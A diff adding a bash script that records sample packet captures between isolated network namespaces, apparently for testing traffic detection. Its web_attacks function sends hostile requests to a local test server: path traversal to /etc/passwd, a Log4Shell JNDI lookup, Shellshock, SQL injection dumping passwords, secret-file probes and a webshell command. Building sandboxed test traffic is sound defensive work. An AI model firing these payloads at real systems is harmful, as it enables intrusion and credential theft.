@@ -1,0 +1,143 @@
+#!/usr/bin/env bash
+# Records the captures of this folder between network namespaces of its own, with no way out.
+#
+#   outside 203.0.113.66 ── router (tap: tcpdump) ── inside 192.168.10.20
+#
+# usage: pcaps/record.sh NAME...   (names as in INDEX.toml, or `all`); needs root and Debian's
+# nmap curl dnsutils dnsmasq-base openssl tcpdump iproute2 ethtool, and PyPI's pymodbus 3.
+set -euo pipefail
+cd "$(dirname "$0")"
+work=$(mktemp -d)
+pids=()
+A=rv-out B=rv-tap C=rv-in
+OUT=203.0.113.66 IN=192.168.10.20
+
+cleanup() {
+    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
+    for ns in $A $B $C; do ip netns del $ns 2>/dev/null || true; done
+    rm -rf "$work"
+}
+trap cleanup EXIT
+
+for ns in $A $B $C; do ip netns add $ns; ip -n $ns link set lo up; done
+ip link add o0 netns $A type veth peer name o1 netns $B
+ip link add i0 netns $C type veth peer name i1 netns $B
+for end in "$A o0 $OUT" "$B o1 203.0.113.1" "$B i1 192.168.10.1" "$C i0 $IN"; do
+    read -r ns link address <<<"$end"
+    ip -n "$ns" addr add "$address/24" dev "$link"
+    # Checksums on the wire as they would be on a real one.
+    ip netns exec "$ns" ethtool -K "$link" tx off gso off tso off gro off >/dev/null
+    ip -n "$ns" link set "$link" up
+done
+ip -n $A route add default via 203.0.113.1
+ip -n $C route add default via 192.168.10.1
+ip netns exec $B sysctl -qw net.ipv4.ip_forward=1
+
+out() { ip netns exec $A "$@"; }
+inside() { ip netns exec $C "$@"; }
+serve() { ip netns exec "$@" >/dev/null 2>&1 & pids+=($!); }
+
+# record NAME COMMAND...: what passes the tap while COMMAND runs.
+record() {
+    local name=$1; shift
+    ip netns exec $B tcpdump -q -U -i i1 -s 0 -w "$work/$name.pcap" 'ip' 2>/dev/null &
+    local tap=$!
+    sleep 0.7
+    "$@" || true
+    sleep 1
+    kill -INT $tap; wait $tap || true
+    cp "$work/$name.pcap" "$name.pcap"
+    echo "$name.pcap: $(stat -c %s "$name.pcap") bytes"
+}
+
+web() {
+    mkdir -p "$work/www/cgi-bin" "$work/www/albo"
+    printf '<html><body><h1>Comune di Prova</h1></body></html>\n' >"$work/www/index.html"
+    printf 'Delibera n. 1\n' >"$work/www/albo/delibera.txt"
+    (cd "$work/www" && exec ip netns exec $C python3 -m http.server 80 --bind $IN) >/dev/null 2>&1 &
+    pids+=($!)
+}
+
+web_attacks() {
+    local base=http://$IN
+    out curl -s -o /dev/null "$base/index.html"
+    out curl -s -o /dev/null --path-as-is "$base/cgi-bin/../../../../../../etc/passwd"
+    out curl -s -o /dev/null -A '${jndi:ldap://203.0.113.66:1389/a}' "$base/"
+    out curl -s -o /dev/null -A '() { :; }; /bin/bash -c "id"' "$base/cgi-bin/stato.cgi"
+    out curl -s -o /dev/null -A 'sqlmap/1.8#stable (https://sqlmap.org)' "$base/albo?id=1%20UNION%20SELECT%20user,password%20FROM%20utenti"
+    out curl -s -o /dev/null -A 'Mozilla/5.00 (Nikto/2.5.0)' "$base/.git/config"
+    out curl -s -o /dev/null "$base/.env"
+    out curl -s -o /dev/null -X POST --data 'cmd=id;cat /etc/passwd' "$base/upload/shell.php"
+    out curl -s -o /dev/null "$base/albo/delibera.txt"
+}
+
+demo() {
+    out nmap -n -Pn -sS -T4 --max-retries 1 -p 1-200,443,445,502,1433,3306,3389,5432,5900,8080 $IN >/dev/null
+    web_attacks
+}
+
+names() {
+    local q="out dig +short +tries=1 +time=1 @$IN"
+    for host in www posta; do $q $host.comune.prova.example; $q $host.comune.prova.example AAAA; done
+    $q comune.prova.example MX
+    $q nulla.comune.prova.example
+    $q +tcp www.comune.prova.example
+} >/dev/null
+
+plc_server='
+import sys
+from pymodbus.server import StartTcpServer
+from pymodbus.datastore import ModbusSequentialDataBlock, ModbusServerContext, ModbusDeviceContext
+block = lambda: ModbusSequentialDataBlock(0, [17] * 100)
+store = ModbusDeviceContext(di=block(), co=block(), hr=block(), ir=block())
+StartTcpServer(ModbusServerContext(devices=store, single=True), address=(sys.argv[1], 502))
+'
+plc_client='
+import sys
+from pymodbus.client import ModbusTcpClient
+c = ModbusTcpClient(sys.argv[1]); c.connect()
+for i in range(5): c.read_holding_registers(10 * i, count=8)
+c.read_coils(0, count=16)
+c.write_register(4, 1234); c.write_coil(2, True); c.write_registers(8, [1, 2, 3])
+c.read_holding_registers(95, count=30)
+c.close()
+'
+
+tls_server() {
+    openssl req -x509 -newkey rsa:2048 -nodes -days 365 -subj "/C=IT/O=Comune di Prova/CN=sportello.prova.example" \
+        -addext subjectAltName=DNS:sportello.prova.example -keyout "$work/k.pem" -out "$work/c.pem" 2>/dev/null
+    serve $C openssl s_server -accept 443 -key "$work/k.pem" -cert "$work/c.pem" -www
+}
+
+tls_visits() {
+    for version in '--tls-max 1.2' '--tlsv1.3'; do
+        # shellcheck disable=SC2086
+        out curl -sk -o /dev/null $version --resolve sportello.prova.example:443:$IN https://sportello.prova.example/
+    done
+}
+
+wait_port() { for _ in $(seq 50); do out nc -z -w1 $IN "$1" 2>/dev/null && return; sleep 0.1; done; }
+
+one() {
+    case $1 in
+    demo) web; wait_port 80; record demo demo ;;
+    web-attacks) web; wait_port 80; record web-attacks web_attacks ;;
+    scan-vertical) record scan-vertical out nmap -n -Pn -sS -T4 --max-retries 0 -p 1-120 $IN ;;
+    scan-horizontal) record scan-horizontal inside nmap -n -Pn -sS -T4 --max-retries 0 -p 445 203.0.113.64/27 ;;
+    dns)
+        serve $C dnsmasq -k --no-resolv --no-hosts --listen-address=$IN --bind-interfaces --pid-file= \
+            --address=/www.comune.prova.example/192.0.2.10 --mx-host=comune.prova.example,posta.comune.prova.example,10 \
+            --address=/posta.comune.prova.example/192.0.2.11 --local=/prova.example/
+        sleep 0.5; record dns names ;;
+    modbus) serve $C python3 -c "$plc_server" $IN; wait_port 502; record modbus out python3 -c "$plc_client" $IN ;;
+    tls) tls_server; wait_port 443; record tls tls_visits ;;
+    *) echo "no recipe for $1" >&2; exit 2 ;;
+    esac
+    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
+    pids=()
+    sleep 0.3
+}
+
+[ "${1:-}" = all ] && set -- demo web-attacks scan-vertical scan-horizontal dns modbus tls
+[ $# -gt 0 ] || { sed -n '2,9p' "$0"; exit 2; }
+for name in "$@"; do one "$name"; done
